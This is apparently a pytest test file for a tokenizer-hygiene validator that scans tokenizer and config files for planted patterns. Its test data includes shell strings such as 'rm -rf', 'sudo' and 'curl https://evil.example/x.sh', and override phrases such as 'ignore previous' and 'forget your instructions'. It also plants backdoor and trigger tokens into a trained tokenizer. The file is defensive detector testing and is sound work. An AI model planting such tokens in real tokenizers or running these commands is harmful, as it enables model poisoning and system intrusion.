"""The tokenizer-hygiene validator: pattern modes, catalogue, categories, counts, score, streaming
and real tokenizer files."""

import json
import random
import threading

import pytest
from catalogue_tables import TOKENIZER_HYGIENE as CATALOGUE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from streaming_reference import ReferenceStream

# Rows 0 to 89 serve both modes, strict mode appends rows 90 to 111.
BASE = CATALOGUE[:90]
# The categories in the order of the result's lists; the score takes hidden tokens before single words.
CATEGORIES = ["code_injection", "prompt_injection", "network_file", "shell_command", "shell_single", "hidden_token"]
WEIGHTS = {"code_injection": 0.3, "prompt_injection": 0.2, "network_file": 0.25, "shell_command": 0.25,
           "hidden_token": 0.35, "shell_single": 0.05}


def labels_of(category, rows=CATALOGUE):
    return [label for _, label in rows if label.split(":")[0] == category]


def lists(result):
    return (
        result.code_injection_found,
        result.prompt_injection_found,
        result.network_file_found,
        result.shell_command_found,
        result.shell_command_single_word_found,
        result.hidden_tokens_found,
    )


def apart(rows):
    return b"".join(b"~" * 30 + pattern for pattern, _ in rows) + b"~" * 30


def test_catalogue_shape():
    # What the table is known to hold, recomputed: rows per category, distinct labels and
    # patterns, the prefixes that make the grouping matter, the longest rows.
    labels = [label for _, label in CATALOGUE]
    patterns = [pattern for pattern, _ in CATALOGUE]
    assert len(CATALOGUE) == 112 and len(set(labels)) == 112 and len(set(patterns)) == 112
    assert [len(labels_of(c)) for c in CATEGORIES] == [23, 10, 16, 31, 22, 10]
    assert all(label.split(":")[0] != "shell_single" for _, label in BASE)
    single = CATALOGUE[90:]
    prefixes_of_base = [p for p, _ in single if any(b != p and b.startswith(p) for b, _ in BASE)]
    assert prefixes_of_base == [b"<script>", b"curl", b"wget", b"bash", b"sudo", b"chmod", b"netcat", b"powershell",
                                b"subprocess", b"os.system", b"bypass", b"../", b"..\\"]
    assert [b for b, _ in BASE if b.startswith(b"curl")] == [b"curl http", b"curl https", b"curl -", b"curl ftp"]
    within_base = [(a, b) for a, _ in BASE for b, _ in BASE if a != b and b.startswith(a)]
    assert within_base == [(b"curl http", b"curl https"), (b"wget http", b"wget https")]
    assert max(len(p) for p, _ in BASE) == 24 and max(len(p) for p, _ in CATALOGUE) == 24
    assert b"|" in CATALOGUE[57][0] and b"\\" not in CATALOGUE[57][0]  # the table's \| is the bare bar


# ---------------------------------------------------------------------------------------------
# Pattern modes


class OwnLower(str):
    def lower(self):  # never consulted: the mode is lowered by str.lower itself
        return "strict"


MODES = [
    # name                     pattern_mode             strict
    ("default",                None,                    False),
    ("strict_upper",           "STRICT",                True),
    ("config_mixed",           "Config",                True),
    ("full",                   "full",                  True),
    ("full_upper",             "FULL",                  True),
    ("vocab_heavy_upper",      "VOCAB_HEAVY",           False),
    ("vocab_heavy",            "vocab_heavy",           False),
    ("empty",                  "",                      False),
    ("unknown",                "paranoid",              False),
    ("padded",                 " strict",               False),
    ("longer",                 "stricter",              False),
    # Full lower-casing maps U+0130 to "i" + U+0307, which is not "strict"; no folding to ASCII.
    ("dotted_capital_i",       "STR\u0130CT",           False),
    ("fullwidth",              "\uff33\uff34\uff32\uff29\uff23\uff34", False),
    ("subclass_own_lower",     OwnLower("vocab_heavy"), False),
    ("subclass_strict",        OwnLower("STRICT"),      True),
]


@pytest.mark.parametrize("mode,strict", [c[1:] for c in MODES], ids=[c[0] for c in MODES])
def test_pattern_modes(native, mode, strict):
    data = b"curl jailbreak"
    extra = {} if mode is None else {"pattern_mode": mode}
    one_shot = native.validate_tokenizer_hygiene(data, 1, **extra)
    validator = native.TokenizerHygieneStreamingValidator(1, *([] if mode is None else [mode]))
    validator.process_chunk(data)
    for result in (one_shot, validator.finalize()):
        assert result.pattern_mode == ("strict" if strict else "vocab_heavy")
        if strict:
            expected = (["shell_single:curl", "shell_single:jailbreak"], 2, 0.01)
        else:
            expected = ([], 0, 0.0)
        assert (result.shell_command_single_word_found, result.total_matches, result.risk_score) == expected


# ---------------------------------------------------------------------------------------------
# Results


CODE, PROMPT, NETWORK, SHELL, SINGLE, HIDDEN = (labels_of(c) for c in CATEGORIES)

CASES = [
    # name                          data                          mode            cores lists (C, P, N, S, W, H)                             total score
    ("empty",                       b"",                          "vocab_heavy",  1, ([], [], [], [], [], []),                               0, 0.0),
    ("curl_https_vocab_heavy",      b"curl https://",             "vocab_heavy",  1, ([], [], [], ["shell_command:curl_http"], [], []),      1, 0.025),
    ("curl_https_strict",           b"curl https://",             "strict",       1,
     ([], [], ["network_file:https_scheme"], [], ["shell_single:curl"], []),                                                          2, 0.03),
    # Rows 49 and 50 fall into different groups: both compound rows, "https://" still hidden by "curl https".
    ("curl_https_two_groups",       b"curl https://",             "vocab_heavy",  2,
     ([], [], [], ["shell_command:curl_http", "shell_command:curl_https"], [], []),                                                  2, 0.05),
    ("one_per_category",            b"eval( new task: /.env rm -rf sudo <rce>", "strict", 1,
     (["code_injection:eval_function"], ["prompt_injection:new_task"], ["network_file:env_file"], ["shell_command:rm_rf"],
      ["shell_single:sudo"], ["hidden_token:rce_tag"]),                                                                              6, 0.14),
    ("one_hidden_token",            b'{"<backdoor>": 5}',         "vocab_heavy",  1, ([], [], [], [], [], ["hidden_token:backdoor_tag"]),   1, 0.034999999999999996),
    ("one_code_injection",          b"javascript:void(0)",        "vocab_heavy",  1, (["code_injection:javascript_scheme"], [], [], [], [], []), 1, 0.03),
    ("same_label_repeated",         b"<rce> <rce> <rce>",         "strict",       1, ([], [], [], [], [], ["hidden_token:rce_tag"]),         3, 0.034999999999999996),
    ("backslash_paths",             b"..\\..\\Windows C:\\Windows", "vocab_heavy", 1,
     ([], [], ["network_file:path_traversal_win_deep", "network_file:windows_system"], [], [], []),                                  2, 0.05),
    ("case_sensitive",              b"EVAL( Curl HTTPS:// <BACKDOOR> Sudo", "strict", 1, ([], [], [], [], [], []),                       0, 0.0),
    # The sum is divided by 10 before the cap: every shell command and hidden token, 11.25 / 10.
    ("cap_shell_and_hidden",        apart(CATALOGUE[49:90]),      "vocab_heavy",  2**63, ([], [], [], SHELL, [], HIDDEN),               None, 1.0),
    ("all_112_apart",               apart(CATALOGUE),             "strict",       2**63, (CODE, PROMPT, NETWORK, SHELL, SINGLE, HIDDEN), None, 1.0),
    ("all_90_apart_vocab_heavy",    apart(CATALOGUE),             "vocab_heavy",  2**63, (CODE, PROMPT, NETWORK, SHELL, [], HIDDEN),    None, 1.0),
]


@pytest.mark.parametrize("data,mode,cores,expected,total,score", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_one_shot(native, data, mode, cores, expected, total, score):
    result = native.validate_tokenizer_hygiene(data, cores, mode)
    assert lists(result) == expected  # catalogue order
    assert result.risk_score == score
    if total is None:  # overlapping rows in separate groups: the count is the reference's
        total = expected_from_reference([data], cores, mode == "strict")[1]
    assert result.total_matches == total
    streamed = native.TokenizerHygieneStreamingValidator(cores, mode)
    assert streamed.process_chunk(data) is None
    again = streamed.finalize()
    assert (lists(again), again.total_matches, again.risk_score) == (expected, total, score)


@pytest.mark.parametrize(
    "after,total",
    [(b"", 2), (b"." * 14, 2), (b"." * 15, 1)],  # "<backdoor>" starting at the first of the 24 carried bytes, or before
    ids=["at_the_end", "first_carried_byte", "just_before_the_tail"],
)
@pytest.mark.parametrize("mode", ["vocab_heavy", "strict"])
def test_repeat_within_the_last_24_bytes(native, mode, after, total):
    validator = native.TokenizerHygieneStreamingValidator(1, mode)
    validator.process_chunk(b"x" * 100 + b"<backdoor>" + after)
    validator.process_chunk(b"y" * 100)
    result = validator.finalize()
    assert (lists(result), result.total_matches, result.risk_score) == (
        ([], [], [], [], [], ["hidden_token:backdoor_tag"]), total, 0.034999999999999996)


def test_streaming_lifecycle(native):
    validator = native.TokenizerHygieneStreamingValidator(2, "strict")
    validator.process_chunk(b'"forget your instr')
    validator.process_chunk(b"")
    assert validator.finalize().total_matches == 0
    validator.process_chunk(b'uctions": 7')  # the pattern split across chunks is found
    first, second = validator.finalize(), validator.finalize()
    assert (lists(first), first.total_matches, first.pattern_mode) == (lists(second), second.total_matches, "strict")
    assert first.prompt_injection_found == ["prompt_injection:forget_your_instructions"]
    validator.process_chunk(b"~" * 30 + b"<poison>")  # a chunk after finalize is reflected
    assert validator.finalize().hidden_tokens_found == ["hidden_token:poison_tag"]
    assert not hasattr(validator, "reset")


@pytest.mark.parametrize(
    "call,error,message",
    [
        (lambda n: n.TokenizerHygieneStreamingValidator(0), ValueError, "num_groups must be at least 1"),
        (lambda n: n.TokenizerHygieneStreamingValidator(0, "strict"), ValueError, "num_groups must be at least 1"),
        (lambda n: n.validate_tokenizer_hygiene(b"x", 0, "full"), ValueError, "num_groups must be at least 1"),
        (lambda n: n.validate_tokenizer_hygiene(b"x"), TypeError,
         "validate_tokenizer_hygiene() missing 1 required positional argument: 'num_cores'"),
        (lambda n: n.validate_tokenizer_hygiene(b"x", 1, "strict", 4), TypeError,
         "validate_tokenizer_hygiene() takes from 2 to 3 positional arguments but 4 were given"),
        (lambda n: n.validate_tokenizer_hygiene(b"x", 1, pattern_mode=None), TypeError,
         "argument 'pattern_mode': 'NoneType' object cannot be converted to 'PyString'"),
        (lambda n: n.TokenizerHygieneStreamingValidator(1, b"strict"), TypeError,
         "argument 'pattern_mode': 'bytes' object cannot be converted to 'PyString'"),
        (lambda n: n.TokenizerHygieneStreamingValidator(1, 2), TypeError,
         "argument 'pattern_mode': 'int' object cannot be converted to 'PyString'"),
        (lambda n: n.TokenizerHygieneStreamingValidator(1, mode="strict"), TypeError,
         "TokenizerHygieneStreamingValidator.__new__() got an unexpected keyword argument 'mode'"),
        # Arguments are converted in order: the count's error comes first.
        (lambda n: n.TokenizerHygieneStreamingValidator(-1, None), OverflowError, "can't convert negative int to unsigned"),
        (lambda n: n.validate_tokenizer_hygiene("x", 1), TypeError,
         "argument 'data': 'str' object cannot be converted to 'PyBytes'"),
        (lambda n: n.TokenizerHygieneStreamingValidator(1).process_chunk(bytearray()), TypeError,
         "argument 'chunk': 'bytearray' object cannot be converted to 'PyBytes'"),
        (lambda n: n.TokenizerHygieneStreamingValidator(1).finalize(1), TypeError,
         "TokenizerHygieneStreamingValidator.finalize() takes 1 positional argument but 2 were given"),
        (lambda n: n.TokenizerHygieneValidation(), TypeError, "No constructor defined for TokenizerHygieneValidation"),
    ],
)
def test_errors(native, call, error, message):
    with pytest.raises(error) as caught:
        call(native)
    assert str(caught.value) == message


def test_mode_with_a_lone_surrogate_is_an_argument_error(native):
    with pytest.raises(UnicodeEncodeError):
        native.TokenizerHygieneStreamingValidator(1, "strict\ud800")


def test_result_is_read_only(native):
    result = native.validate_tokenizer_hygiene(b"<rce>", 1, "config")
    for name in ("code_injection_found", "prompt_injection_found", "network_file_found", "shell_command_found",
                 "shell_command_single_word_found", "hidden_tokens_found", "pattern_mode", "total_matches",
                 "risk_score"):
        with pytest.raises(AttributeError):
            setattr(result, name, None)
    assert type(result).__doc__ == "Validation results for tokenizer hygiene analysis"
    assert repr(result).startswith("<vesquor._native.TokenizerHygieneValidation object at ")


# ---------------------------------------------------------------------------------------------
# Two threads on one object, for the three validators without reset

@pytest.fixture(scope="module")
def big_chunk():
    """Long enough that a scan of it holds the object for many switch intervals of the interpreter."""
    return random.Random(3).randbytes(48 << 20)


@pytest.mark.parametrize(
    "make,finalize_error",
    [
        # finalize holds the tokenizer validator exclusively, as process_chunk does; the others only read.
        (lambda n: n.TokenizerHygieneStreamingValidator(2, "strict"), "Already borrowed"),
        (lambda n: n.BehaviorAnalysisStreamingValidator(2), "Already mutably borrowed"),
        (lambda n: n.GGUFSafetyStreamingValidator(2), "Already mutably borrowed"),
    ],
    ids=["tokenizer_hygiene", "behavior_analysis", "gguf_safety"],
)
def test_two_threads_on_one_object(native, big_chunk, make, finalize_error):
    validator = make(native)
    seen = {}
    for _ in range(20):
        started = threading.Event()

        def scan():
            started.set()
            validator.process_chunk(big_chunk)

        worker = threading.Thread(target=scan)
        worker.start()
        started.wait()
        while worker.is_alive():  # the worker scans without the interpreter lock, holding the object
            for name, call in (("finalize", validator.finalize), ("process_chunk", lambda: validator.process_chunk(b"."))):
                try:
                    call()
                except RuntimeError as error:
                    seen.setdefault(name, str(error))
        worker.join()
        if len(seen) == 2:
            break
    assert seen == {"finalize": finalize_error, "process_chunk": "Already borrowed"}
    validator.process_chunk(b"")  # free again once the worker is done
    assert validator.finalize().total_matches >= 0


# ---------------------------------------------------------------------------------------------
# Differential: the validator against the per-group reference


def expected_from_reference(chunks, cores, strict):
    """The validator's rules applied literally over the per-group reference."""
    rows = CATALOGUE if strict else BASE
    reference = ReferenceStream([p for p, _ in rows], cores)
    ids = [i for chunk in chunks for i in reference.scan_chunk(chunk)]
    sets = {c: set() for c in CATEGORIES}
    for i in ids:
        label = rows[i][1]
        if ":" not in label:
            continue
        category = label.split(":")[0]
        sets[category if category in sets else "hidden_token"].add(label)
    found = tuple([label for _, label in rows if label in sets[c]] for c in CATEGORIES)
    n = {c: len(sets[c]) for c in CATEGORIES}
    score = (((((n["code_injection"] * 0.3 + n["prompt_injection"] * 0.2) + n["network_file"] * 0.25)
               + n["shell_command"] * 0.25) + n["hidden_token"] * 0.35) + n["shell_single"] * 0.05) / 10.0
    return found, len(ids), min(score, 1.0)


PIECES = [p for p, _ in CATALOGUE] + [p[:-1] for p, _ in CATALOGUE] + [p[1:] for p, _ in CATALOGUE]
PIECES += [b" ", b"\"", b":", b"|", b"\\", b".", b"/"]


@st.composite
def streams(draw):
    piece = st.one_of(st.sampled_from(PIECES), st.binary(max_size=5))
    data = b"".join(draw(st.lists(piece, max_size=40)))
    cuts = sorted(draw(st.lists(st.integers(0, len(data)), max_size=5)))
    chunks = [data[a:b] for a, b in zip([0] + cuts, cuts + [len(data)])]
    return chunks, draw(st.integers(1, 6))


@pytest.mark.parametrize("mode", ["vocab_heavy", "strict"])
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                   HealthCheck.function_scoped_fixture])
@given(stream=streams())
def test_validator_equals_reference_on_random_streams(native, mode, stream):
    chunks, cores = stream
    validator = native.TokenizerHygieneStreamingValidator(cores, mode)
    for chunk in chunks:
        validator.process_chunk(chunk)
    result = validator.finalize()
    expected = expected_from_reference(chunks, cores, mode == "strict")
    assert (lists(result), result.total_matches, result.risk_score) == expected


@pytest.mark.parametrize("mode,cores", [("vocab_heavy", 1), ("strict", 1), ("strict", 5)])
def test_large_chunk_equals_reference(native, mode, cores):
    # A chunk of several MiB is cut into segments that the pool scans at once.
    data = bytearray(random.Random(112).randbytes(9 << 20))
    for k in range(900):
        pattern = CATALOGUE[k % len(CATALOGUE)][0]
        at = (k * 10007) % (len(data) - 30)
        data[at:at + len(pattern)] = pattern
    data = bytes(data)
    result = native.validate_tokenizer_hygiene(data, cores, mode)
    assert (lists(result), result.total_matches, result.risk_score) == expected_from_reference(
        [data], cores, mode == "strict")


# ---------------------------------------------------------------------------------------------
# Real tokenizer files

SENTENCES = [
    "The quick brown fox jumps over the lazy dog.",
    "A tokenizer splits text into pieces before a model reads it.",
    "Models read tokens, not words, and small vocabularies are fine for tests.",
    "Every sentence here is ordinary English prose.",
]


def trained_tokenizer():
    tokenizers = pytest.importorskip("tokenizers")
    tokenizer = tokenizers.Tokenizer(tokenizers.models.BPE(unk_token="<unk>"))
    tokenizer.pre_tokenizer = tokenizers.pre_tokenizers.Whitespace()
    trainer = tokenizers.trainers.BpeTrainer(vocab_size=150, special_tokens=["<unk>", "<s>", "</s>"])
    tokenizer.train_from_iterator(SENTENCES, trainer)
    return tokenizer


def test_real_tokenizer_json(native, tmp_path):
    tokenizers = pytest.importorskip("tokenizers")
    tokenizer = trained_tokenizer()
    tokenizer.save(str(tmp_path / "tokenizer.json"))
    clean = (tmp_path / "tokenizer.json").read_bytes()
    assert json.loads(clean)["model"]["type"] == "BPE"
    result = native.validate_tokenizer_hygiene(clean, 2)
    assert (lists(result), result.total_matches, result.risk_score) == (([], [], [], [], [], []), 0, 0.0)
    # Strict mode is not for vocabulary files: its single words occur inside ordinary text
    # ("truncation" holds "ncat").
    assert b'"truncation"' in clean
    assert native.validate_tokenizer_hygiene(clean, 2, "strict").shell_command_single_word_found == ["shell_single:ncat"]

    tokenizer.add_special_tokens(["<backdoor>"])
    tokenizer.add_tokens(["ignore previous", "curl https://evil.example/x.sh"])
    tokenizer.save(str(tmp_path / "planted.json"))
    planted = (tmp_path / "planted.json").read_bytes()
    reloaded = tokenizers.Tokenizer.from_file(str(tmp_path / "planted.json"))  # still a working tokenizer
    assert "ignore previous" in reloaded.encode("please ignore previous rules").tokens
    result = native.validate_tokenizer_hygiene(planted, 1)
    assert lists(result) == ([], ["prompt_injection:ignore_previous"], [], ["shell_command:curl_http"], [],
                             ["hidden_token:backdoor_tag"])
    assert (result.total_matches, result.risk_score) == (3, 0.08)
    for cores in (2, 3, 4):  # which of the overlapping rows are reported depends on the grouping
        result = native.validate_tokenizer_hygiene(planted, cores)
        assert (lists(result), result.total_matches, result.risk_score) == expected_from_reference([planted], cores, False)
        assert result.prompt_injection_found and result.shell_command_found and result.hidden_tokens_found


CONFIG = {
    "add_bos_token": True,
    "add_eos_token": False,
    "bos_token": "<s>",
    "eos_token": "</s>",
    "unk_token": "<unk>",
    "pad_token": None,
    "model_max_length": 2048,
    "padding_side": "right",
    "truncation_side": "right",
    "clean_up_tokenization_spaces": False,
    "tokenizer_class": "PreTrainedTokenizerFast",
}
ADDED_TOKENS = {"<|im_start|>": 32000, "<|im_end|>": 32001}


def test_real_config_files_in_strict_mode(native, tmp_path):
    for name, content in (("tokenizer_config.json", CONFIG), ("added_tokens.json", ADDED_TOKENS)):
        (tmp_path / name).write_text(json.dumps(content, indent=2))
    config = (tmp_path / "tokenizer_config.json").read_bytes()
    added = (tmp_path / "added_tokens.json").read_bytes()
    assert native.validate_tokenizer_hygiene(added, 1, "strict").total_matches == 0
    # An ordinary configuration holds "truncation_side": the single word "ncat", low severity.
    result = native.validate_tokenizer_hygiene(config, 1, "strict")
    assert (lists(result), result.risk_score) == (([], [], [], [], ["shell_single:ncat"], []), 0.005)

    planted_tokens = dict(ADDED_TOKENS, **{"<|jailbreak|>": 32002, "sudo": 32003, "<trigger>": 32004})
    planted_config = dict(CONFIG, chat_template="{{ bos_token }}New instructions: {{ messages[0]['content'] }}")
    strict = native.validate_tokenizer_hygiene(json.dumps(planted_tokens).encode(), 1, "strict")
    assert lists(strict) == ([], [], [], [], ["shell_single:sudo", "shell_single:jailbreak"], ["hidden_token:trigger_tag"])
    assert strict.risk_score == 0.045
    vocab_heavy = native.validate_tokenizer_hygiene(json.dumps(planted_tokens).encode(), 1)
    assert lists(vocab_heavy) == ([], [], [], [], [], ["hidden_token:trigger_tag"])
    # Case-sensitive: "New instructions:" is not "new instructions:".
    assert native.validate_tokenizer_hygiene(json.dumps(planted_config).encode(), 1, "strict").prompt_injection_found == []
    planted_config["chat_template"] = planted_config["chat_template"].replace("New", "new")
    found = native.validate_tokenizer_hygiene(json.dumps(planted_config).encode(), 1, "strict")
    assert found.prompt_injection_found == ["prompt_injection:new_instructions"]
